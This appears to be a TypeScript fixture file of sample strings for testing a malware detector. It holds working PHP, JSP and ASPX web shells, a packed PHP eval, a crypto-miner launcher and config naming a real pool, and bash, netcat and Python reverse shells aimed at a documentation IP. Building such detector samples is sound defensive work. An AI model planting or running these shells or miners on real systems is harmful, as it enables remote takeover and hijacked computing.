/**
 * Harmless stand-ins for what the malware detector looks for. Nothing here runs or connects:
 * the addresses are documentation ranges (RFC 5737) and `.example` names, the wallet is made up.
 * The EICAR test string is assembled at run time so this source file itself is not flagged by
 * anti-virus scanners on developer machines.
 */
export const EICAR = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('');

/** A 95-character address in Monero's public-address shape (not a real wallet). */
export const FAKE_WALLET = `4A${'abcdefghijkmnopqrstuvwxyz123456789'.repeat(3).slice(0, 93)}`;

export const PHP_WEBSHELL = "<?php\nif (isset($_REQUEST['c'])) { system($_REQUEST['c']); }\n?>\n";
export const PHP_PACKED = '<?php eval(gzinflate(base64_decode("S0ktLlEoLUpVSMsvyk1VBAA="))); ?>\n';
export const PHP_BENIGN = "<?php\necho htmlspecialchars($_GET['name'] ?? 'world');\n?>\n";
export const JSP_WEBSHELL =
  '<%@ page import="java.io.*" %>\n<% Process p = Runtime.getRuntime().exec(request.getParameter("cmd")); %>\n';
export const ASPX_WEBSHELL = '<%@ Page Language="JScript" %>\n<% eval(Request.Item["code"], "unsafe"); %>\n';

export const MINER_SCRIPT = [
  '#!/bin/sh',
  '# fake miner launcher for tests: the binary does not exist',
  `./xmrig --donate-level 1 -o stratum+tcp://pool.example:3333 -u ${FAKE_WALLET} -p x --coin monero`,
  '',
].join('\n');
export const MINER_CONFIG = JSON.stringify(
  { autosave: true, randomx: { mode: 'auto' }, pools: [{ coin: 'monero', url: 'pool.supportxmr.com:443' }] },
  null,
  2,
);

export const BASH_REVSHELL = '#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.10/4444 0>&1\n';
export const NC_REVSHELL =
  'rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 192.0.2.10 4444 > /tmp/f\n';
export const PY_REVSHELL = [
  '#!/usr/bin/env python3',
  'import socket, subprocess, os',
  's = socket.socket(socket.AF_INET, socket.SOCK_STREAM)',
  's.connect(("192.0.2.10", 4444))',
  'os.dup2(s.fileno(), 0)',
  'os.dup2(s.fileno(), 1)',
  'os.dup2(s.fileno(), 2)',
  'subprocess.call(["/bin/sh", "-i"])',
  '',
].join('\n');
/** A script that merely talks about the same things. */
export const BENIGN_SCRIPT =
  '#!/bin/sh\n# check that /dev/tcp works in bash and that nc is installed\ncommand -v nc\n';
